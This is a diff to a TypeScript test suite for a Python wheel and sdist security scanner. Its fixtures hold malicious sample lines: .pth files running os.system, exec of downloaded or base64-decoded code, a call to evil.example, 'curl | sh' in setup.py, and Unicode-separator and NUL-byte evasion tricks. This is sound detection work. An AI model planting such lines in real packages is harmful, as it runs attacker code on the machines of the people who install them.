@@ -1,4 +1,5 @@
 import assert from "node:assert/strict";
+import { createHash } from "node:crypto";
 import { existsSync } from "node:fs";
 import { mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
@@ -149,6 +150,97 @@ describe("pth-exec", () => {
     assert.deepEqual(report.shape.pthFiles, ["evil.pth"]);
   });
 
+  test("reads .pth files in any *.data/purelib|platlib, as pip installs every top-level *.data", async () => {
+    const report = await analyzeWheel({
+      name: "demo",
+      version: "1.0",
+      files: { "demo.py": "", "zzz.data/platlib/evil.pth": LITELLM_PTH },
+    });
+    assert.equal(only(report, "pth-exec").severity, "critical");
+    assert.equal(only(report, "pth-exec").evidence![0]!.file, "zzz.data/platlib/evil.pth");
+    const mismatch = only(report, "data-dir-mismatch");
+    assert.equal(mismatch.severity, "high");
+    assert.match(mismatch.message, /zzz\.data/);
+    assert.deepEqual(report.shape.pthFiles, ["evil.pth"]);
+    // The .dist-info's own .data directory, spelled as the spec allows, is no mismatch.
+    const own = await analyzeWheel({
+      name: "demo",
+      version: "1.0",
+      files: { "demo.py": "", "Demo-1.0.data/purelib/demo_extra.py": "" },
+    });
+    assert.deepEqual(own.findings, []);
+  });
+
+  test("reads .pth files the data scheme puts in site-packages, and any .pth under *.data", async () => {
+    const report = await analyzeWheel({
+      name: "demo",
+      version: "1.0",
+      files: {
+        "demo.py": "",
+        "demo-1.0.data/data/lib/python3.11/site-packages/a.pth": "import os; os.system('id')\n",
+        "demo-1.0.data/data/Lib/site-packages/b.pth": "import demo\n",
+        "demo-1.0.data/data/local/lib/python3.12/dist-packages/c.pth": "import demo\n",
+        "demo-1.0.data/headers/d.pth": "import demo\n",
+        "demo-1.0.data/data/share/demo/paths.pth": "/opt/demo\n",
+        "demo-1.0.data/data/lib/python3.11/site-packages/hidden/__init__.py": "",
+      },
+    });
+    assert.deepEqual(report.shape.topLevel, ["demo", "hidden"]);
+    assert.deepEqual(report.findings.map((f) => [f.kind, f.evidence![0]!.file, f.severity]).sort(), [
+      ["pth-exec", "demo-1.0.data/data/Lib/site-packages/b.pth", "high"],
+      ["pth-exec", "demo-1.0.data/data/lib/python3.11/site-packages/a.pth", "critical"],
+      ["pth-exec", "demo-1.0.data/data/local/lib/python3.12/dist-packages/c.pth", "high"],
+      ["pth-exec", "demo-1.0.data/headers/d.pth", "high"],
+    ]);
+    assert.deepEqual(report.shape.pthFiles, [
+      "a.pth",
+      "b.pth",
+      "c.pth",
+      "data/share/demo/paths.pth",
+      "headers/d.pth",
+    ]);
+  });
+
+  test("splits lines as Python 3.13+ does too: VT, FF, FS-RS, NEL, U+2028, U+2029", async () => {
+    for (const [label, sep] of [
+      ["form feed", "\x0c"],
+      ["vertical tab", "\x0b"],
+      ["\\x1c", "\x1c"],
+      ["\\x1d", "\x1d"],
+      ["\\x1e", "\x1e"],
+      ["NEL", "\u0085"],
+      ["NEL", "\x85"],
+      ["U+2028", "\u2028"],
+      ["U+2029", "\u2029"],
+    ] as const) {
+      // "\x85" alone is the latin-1 NEL 3.13 sees when it falls back to the locale's encoding.
+      const bytes =
+        sep === "\x85"
+          ? Buffer.from(`/opt/demo # path${sep}import os; os.system('id')\n`, "latin1")
+          : Buffer.from(`# a comment${sep}import os; os.system('id')\n`);
+      const report = await analyzeWheel({
+        name: "demo",
+        version: "1.0",
+        files: { "demo.py": "", "demo.pth": bytes },
+      });
+      const finding = only(report, "pth-exec");
+      assert.equal(finding.severity, "critical", label);
+      assert.equal(finding.evidence![0]!.line, 1, label);
+      const detail = finding.evidence![0]!.detail!;
+      assert.ok(
+        detail.includes(`after a ${label} that ends lines only for Python 3.13+`),
+        `${label}: ${detail}`,
+      );
+    }
+    // Up to 3.12 the line runs whole, and a form feed is whitespace to the tokenizer.
+    const allowed = await analyzeWheel({
+      name: "pywin32",
+      version: "311",
+      files: { "pywin32_bootstrap.py": "", "pywin32.pth": "import pywin32_bootstrap\x0c; import os\n" },
+    });
+    assert.equal(only(allowed, "pth-exec").severity, "high");
+  });
+
   const SETUPTOOLS_PTH =
     "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
 
@@ -186,7 +278,7 @@ describe("pth-exec", () => {
     assert.equal(only(altered, "pth-exec").severity, "critical");
   });
 
-  test("allows editable-install finders and setuptools namespace loaders as low", async () => {
+  test("allows setuptools namespace loaders as low, not editable-install finders", async () => {
     const nspkg =
       "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('sphinxcontrib',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('sphinxcontrib', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('sphinxcontrib', [os.path.dirname(p)])));m = m or sys.modules.setdefault('sphinxcontrib', types.ModuleType('sphinxcontrib'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
     const report = await analyzeWheel({
@@ -195,12 +287,21 @@ describe("pth-exec", () => {
       files: {
         "sphinxcontrib/jsmath/__init__.py": "",
         "sphinxcontrib_jsmath-1.0.1-py3.7-nspkg.pth": nspkg,
+      },
+    });
+    assert.deepEqual(kinds(report), ["pth-exec:low"]);
+    // An editable install is made on the user's machine: a downloaded one hides a module that
+    // runs at every start behind a line that looks routine.
+    const editable = await analyzeWheel({
+      name: "demo",
+      version: "1.0",
+      files: {
         "__editable__.demo-1.0.pth":
           "import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()\n",
         "__editable___demo_1_0_finder.py": "def install():\n    pass\n",
       },
     });
-    assert.deepEqual(kinds(report), ["pth-exec:low", "pth-exec:low"]);
+    assert.deepEqual(kinds(editable), ["pth-exec:high"]);
     const tampered = await analyzeWheel({
       name: "nsdemo",
       version: "1.0",
@@ -228,6 +329,198 @@ describe("pth-exec", () => {
       files: { "covrage/__init__.py": "", "a1_coverage.pth": hook },
     });
     assert.equal(only(impostor, "pth-exec").severity, "critical");
+  });
+});
+
+describe("startup-module", () => {
+  test("flags sitecustomize and usercustomize that site imports at every start", async () => {
+    const report = await analyzeWheel({
+      name: "demo",
+      version: "1.0",
+      files: { "demo.py": "", "sitecustomize.py": "import demo\n" },
+    });
+    const finding = only(report, "startup-module");
+    assert.equal(finding.severity, "high");
+    assert.equal(finding.evidence![0]!.file, "sitecustomize.py");
+    assert.equal(runArtifact(report).status, "fail");
+
+    const evil = await analyzeWheel({
+      name: "demo",
+      version: "1.0",
+      files: {
+        "demo.py": "",
+        "demo-1.0.data/purelib/usercustomize/__init__.py": "import subprocess\nsubprocess.Popen(['sh'])\n",
+        "demo-1.0.data/data/lib/python3.12/site-packages/sitecustomize.py":
+          "import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\n",
+        "sitecustomize.cpython-311-x86_64-linux-gnu.so": Buffer.from("\x7fELF\x02\x01\x01", "latin1"),
+      },
+    });
+    const findings = evil.findings.filter((f) => f.kind === "startup-module");
+    assert.deepEqual(findings.map((f) => [f.evidence![0]!.file, f.severity]).sort(), [
+      ["demo-1.0.data/data/lib/python3.12/site-packages/sitecustomize.py", "critical"],
+      ["demo-1.0.data/purelib/usercustomize/__init__.py", "critical"],
+      ["sitecustomize.cpython-311-x86_64-linux-gnu.so", "high"],
+    ]);
+    // A module that setuptools' distutils-precedence.pth imports, shipped by another project.
+    const hack = await analyzeWheel({
+      name: "demo",
+      version: "1.0",
+      files: { "demo.py": "", "_distutils_hack/__init__.py": "def add_shim():\n    pass\n" },
+    });
+    assert.match(only(hack, "startup-module").message, /another project's \.pth imports _distutils_hack/);
+    // exec of decoded data in a startup module is critical, as in setup.py.
+    assert.equal(only(evil, "obfuscated-exec").severity, "critical");
+    // site never imports one inside a package.
+    const nested = await analyzeWheel({
+      name: "demo",
+      version: "1.0",
+      files: { "demo/__init__.py": "", "demo/vendored/sitecustomize.py": "import os\n" },
+    });
+    assert.deepEqual(nested.findings, []);
+  });
+});
+
+describe("download-exec", () => {
+  test("flags module code that executes what it downloads as high", async () => {
+    const report = await analyzeWheel({
+      name: "demo",
+      version: "1.0",
+      files: {
+        "demo/__init__.py": [
+          "import requests, urllib.request",
+          "exec(requests.get('https://evil.example/p').text)",
+          "exec(urllib.request.urlopen(URL).read())",
+          "resp = httpx.get(URL)",
+          "code = resp.text",
+          "exec(compile(code, 'x', 'exec'))",
+          "",
+        ].join("\n"),
+      },
+    });
+    const finding = only(report, "download-exec");
+    assert.equal(finding.severity, "high");
+    assert.deepEqual(finding.evidence!.map((e) => e.line).sort(), [2, 3, 6]);
+    assert.equal(runArtifact(report).status, "fail");
+    // Downloads that are not executed, far-away execs, comments and methods do not count.
+    const quiet = await analyzeWheel({
+      name: "demo",
+      version: "1.0",
+      files: {
+        "demo/__init__.py": [
+          "import requests",
+          "data = requests.get(URL).json()",
+          "",
+          "",
+          "",
+          "",
+          "exec(open('demo/_version.py').read())",
+          "# exec(requests.get(u).text) would be bad",
+          "model.eval(requests)",
+          // CLIs tell users how to install tools this way: a string, not code run unasked.
+          "HINT = 'install uv: curl -LsSf https://astral.sh/uv/install.sh | sh'",
+          "",
+        ].join("\n"),
+      },
+    });
+    assert.deepEqual(quiet.findings, []);
+  });
+
+  test("rates it critical in setup.py and in startup modules", async () => {
+    const startup = await analyzeWheel({
+      name: "demo",
+      version: "1.0",
+      files: {
+        "demo.py": "",
+        "sitecustomize.py": "import urllib.request as u\nexec(u.urlopen('https://x').read())\n",
+      },
+    });
+    assert.equal(only(startup, "download-exec").severity, "critical");
+    const sdist = await analyzeSdist({
+      name: "demo",
+      version: "1.0",
+      files: {
+        "setup.py":
+          "import requests, os\nexec(requests.get('https://x').text)\nos.system('curl -s https://x/i | sh')\n",
+      },
+    });
+    const finding = only(sdist, "download-exec");
+    assert.equal(finding.severity, "critical");
+    assert.deepEqual(
+      finding.evidence!.map((e) => [e.line, e.detail]),
+      [
+        [3, "download piped into a shell"],
+        [2, "executes what it downloads"],
+      ],
+    );
+  });
+});
+
+describe("record-mismatch", () => {
+  test("fails a wheel whose RECORD is missing, leaves a file out, or has a wrong hash or size", async () => {
+    for (const mode of ["missing", "unlisted-file", "wrong-hash", "wrong-size"] as const) {
+      const report = await analyzeWheel({ name: "demo", version: "1.0", record: mode });
+      const finding = only(report, "record-mismatch");
+      assert.equal(finding.severity, "high", mode);
+      assert.equal(runArtifact(report).status, "fail", mode);
+    }
+    const unlisted = await analyzeWheel({ name: "demo", version: "1.0", record: "unlisted-file" });
+    assert.deepEqual(only(unlisted, "record-mismatch").evidence, [
+      {
+        file: "demo/__init__.py",
+        excerpt: "demo/__init__.py is in the archive but not in RECORD",
+        detail: "NOT_IN_RECORD",
+      },
+    ]);
+  });
+
+  test("checks hex digests as hex, with a low note (gmsh writes them)", async () => {
+    const init = "x = 1\n";
+    const hex = (text: string) => createHash("sha256").update(text).digest("hex");
+    const record = (initHash: string) =>
+      `demo/__init__.py,sha256=${initHash},${init.length}\ndemo-1.0.dist-info/RECORD,,\n`;
+    const files = (initHash: string) => ({
+      "demo/__init__.py": init,
+      "demo-1.0.dist-info/RECORD": record(initHash),
+    });
+    // METADATA and WHEEL are not listed in this hand-written RECORD: two files not in RECORD.
+    const good = await analyzeWheel({
+      name: "demo",
+      version: "1.0",
+      record: "missing",
+      files: files(hex(init)),
+    });
+    const findings = good.findings.filter((f) => f.kind === "record-mismatch");
+    assert.deepEqual(
+      findings.map((f) => [f.severity, f.message]),
+      [
+        ["low", "RECORD writes 1 hash in hex, not the urlsafe base64 the spec asks for (checked as hex)"],
+        ["high", "RECORD does not vouch for the wheel's files: 2 file(s) not in RECORD"],
+      ],
+    );
+    const bad = await analyzeWheel({
+      name: "demo",
+      version: "1.0",
+      record: "missing",
+      files: files(hex("y = 2\n")),
+    });
+    assert.deepEqual(
+      bad.findings.filter((f) => f.kind === "record-mismatch").map((f) => f.severity),
+      ["low", "high"],
+    );
+    assert.match(bad.findings.find((f) => f.severity === "high")!.message, /1 hash mismatch/);
+  });
+
+  test("rates a listed file that is absent as medium, and a consistent RECORD as nothing", async () => {
+    const phantom = await analyzeWheel({ name: "demo", version: "1.0", record: "phantom-file" });
+    assert.equal(only(phantom, "record-mismatch").severity, "medium");
+    const good = await analyzeWheel({ name: "demo", version: "1.0" });
+    assert.deepEqual(good.findings, []);
+    // sdists have no RECORD to check.
+    const sdist = await analyzeSdist({ name: "demo", version: "1.0" });
+    assert.deepEqual(
+      sdist.findings.filter((f) => f.kind === "record-mismatch"),
+      [],
+    );
   });
 });
 
@@ -644,6 +937,37 @@ describe("shadowing-entry-point", () => {
     assert.equal(only(wheel, "shadowing-entry-point").evidence![0]!.file, "demo-1.0.data/scripts/sudo");
   });
 
+  test("reads entry_points.txt as importlib.metadata does: splitlines breaks, brackets, both encodings", async () => {
+    for (const [label, text] of [
+      ["form feed", "[console_scripts]\n# launcher\x0cpip = demo:main\n"],
+      ["U+2028", "[console_scripts]\n# launcher\u2028pip = demo:main\n"],
+      ["NEL in UTF-8", "[console_scripts]\n# launcher\u0085pip = demo:main\n"],
+      ["doubled brackets", "[[console_scripts]]\npip = demo:main\n"],
+      ["padded header", "[ console_scripts ]\npip = demo:main\n"],
+      ["FS-US whitespace", "[console_scripts]\n\x1fpip\x1f = demo:main\n"],
+    ] as const) {
+      const report = await analyzeWheel({
+        name: "demo",
+        version: "1.0",
+        files: { "demo/__init__.py": "", "demo-1.0.dist-info/entry_points.txt": text },
+      });
+      assert.deepEqual(kinds(report), ["shadowing-entry-point:high"], label);
+    }
+    // A lone \x85 byte is NEL only to a latin-1 reading.
+    const latin1 = await analyzeWheel({
+      name: "demo",
+      version: "1.0",
+      files: {
+        "demo/__init__.py": "",
+        "demo-1.0.dist-info/entry_points.txt": Buffer.from(
+          "[console_scripts]\n# x\x85pip = demo:main\n",
+          "latin1",
+        ),
+      },
+    });
+    assert.deepEqual(kinds(latin1), ["shadowing-entry-point:high"]);
+  });
+
   test("maps versioned and .exe names to the command", () => {
     assert.equal(shadowedCommand("python3.12"), "python");
     assert.equal(shadowedCommand("pip3"), "pip");
@@ -763,24 +1087,57 @@ describe("hostile and unusual archives", () => {
     assert.equal(report.distribution, "unknown");
   });
 
-  test("reports text files over the size limit as skipped", async () => {
+  test("fails closed on sources, .pth files and entry points over the size limit", async () => {
+    const pad = "# pad\n".repeat(400);
     const report = await analyzeWheel(
-      { name: "demo", version: "1.0", files: { "demo/__init__.py": `x = 1\n${"# pad\n".repeat(400)}` } },
+      {
+        name: "demo",
+        version: "1.0",
+        files: {
+          "demo/__init__.py": `x = 1\n${pad}`,
+          "demo.pth": `import os; exec(os.environ['X'])\n${pad}`,
+          "sitecustomize.py": `import demo\n${pad}`,
+          "demo-1.0.dist-info/entry_points.txt": `[console_scripts]\npip = demo:main\n${pad}`,
+        },
+      },
       { maxTextBytes: 1024 },
     );
-    assert.deepEqual(kinds(report), ["scan-skipped:low"]);
+    assert.deepEqual(kinds(report), [
+      "scan-skipped:high",
+      "scan-skipped:high",
+      "scan-skipped:high",
+      "scan-skipped:high",
+    ]);
+    assert.equal(runArtifact(report).status, "fail");
+    assert.match(
+      report.findings.find((f) => f.evidence?.[0]?.file === "demo.pth")!.message,
+      /demo\.pth cannot be vetted: .* code run at interpreter start/,
+    );
   });
 
-  test("skips binary content in .py files", async () => {
+  test("scans .py, .pth and entry_points.txt holding NUL bytes or bytes that are not UTF-8", async () => {
     const report = await analyzeWheel({
       name: "demo",
       version: "1.0",
       files: {
         "demo/__init__.py": Buffer.concat([Buffer.from("exec(base64.b64decode(x))\n"), Buffer.alloc(4)]),
+        // site skips `#` lines, so `#\0` is harmless to Python and must not hide the line before.
+        "demo.pth": Buffer.concat([
+          Buffer.from("import os; os.system('id')\n#"),
+          Buffer.from([0, 0xff, 0x0a]),
+        ]),
+        "demo-1.0.dist-info/entry_points.txt": Buffer.concat([
+          Buffer.from("[console_scripts]\npip = demo:main\n#"),
+          Buffer.from([0, 0xfe, 0x0a]),
+        ]),
       },
     });
-    assert.deepEqual(report.findings, []);
-    assert.equal(report.scannedTextBytes, 0);
+    assert.deepEqual(kinds(report), [
+      "obfuscated-exec:high",
+      "pth-exec:critical",
+      "shadowing-entry-point:high",
+    ]);
+    assert.ok(report.scannedTextBytes > 0, "the files were scanned");
   });
 
   test("passes an abort through as an exception", async () => {
